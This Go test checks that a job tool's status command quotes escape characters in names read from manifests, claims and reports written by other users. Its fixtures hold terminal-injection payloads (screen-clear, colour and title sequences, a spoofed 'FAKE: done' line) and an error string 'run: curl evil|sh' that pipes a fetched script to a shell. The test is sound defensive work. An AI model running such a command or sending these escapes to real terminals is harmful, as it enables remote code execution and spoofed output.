package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/facefusion-hpc/facefusion/internal/report"
	"github.com/facefusion-hpc/facefusion/lustre"
)

// status shows a job folder's manifest, claim and report, whose target, host and Slurm job are
// names of others' making (a target from an inbox others fill, a claim another run wrote): an
// ANSI escape or a line break in them reaches the terminal quoted, never raw.
func TestStatusQuotesNamesFromFiles(t *testing.T) {
	const evil = "\x1b[2J\x1b[31m\nFAKE: done"
	jd := statusJob(t, t.TempDir())
	m, _, err := jd.ReadManifest()
	if err != nil {
		t.Fatal(err)
	}
	m.Target = "in" + evil + ".mp4"
	m.Attempts[0].SlurmJob = "9" + evil
	if err := jd.WriteManifest(m); err != nil {
		t.Fatal(err)
	}
	h := lustre.Me()
	h.Host, h.SlurmJob = "node"+evil, "7"+evil
	if _, _, err := jd.TakeClaim(h); err != nil {
		t.Fatal(err)
	}
	var got strings.Builder
	if err := cmdStatus([]string{jd.Path}, &got); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "done.mp4")
	rep := `{"version": 3, "outcome": "complete", "output": "` + out + `", "target": "in\u001b[2J\nFAKE: x.mp4", "frame_end": 10, "chunks": 1, "attempts": [], "finished": "2026-12-01T10:00:00Z"}`
	if err := os.WriteFile(report.Path(out), []byte(rep), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := reportStatus(out, &got); err != nil {
		t.Fatal(err)
	}
	// A failed run's report: its output, job folder and error line as another user wrote them.
	failed := filepath.Join(t.TempDir(), "failed.mp4")
	rep = `{"version": 3, "outcome": "failed", "exit_status": 2, "output": "/x\u001b[31m", "job_dir": "/j\u001b]0;t\u0007", "error": "\u001b[2Jrun: curl evil|sh", "target": "t.mp4", "frame_end": 10, "chunks": 1, "attempts": [], "finished": "2026-12-01T10:00:00Z"}`
	if err := os.WriteFile(report.Path(failed), []byte(rep), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := reportStatus(failed, &got); err != nil {
		t.Fatal(err)
	}
	text := got.String()
	if strings.Contains(text, "\x1b") || strings.Contains(text, "\nFAKE") {
		t.Errorf("status passes a name's control characters on raw:\n%q", text)
	}
	for _, want := range []string{`"in\x1b[2J\x1b[31m\nFAKE: done.mp4"`, `"node\x1b[2J`, `"7\x1b[2J`, `"9\x1b[2J`, `"in\x1b[2J\nFAKE: x.mp4"`, `"/x\x1b[31m"`, `"/j\x1b]0;t\a"`, `2: \x1b[2Jrun: curl evil|sh`} {
		if !strings.Contains(text, want) {
			t.Errorf("status does not show %s quoted:\n%s", want, text)
		}
	}
}
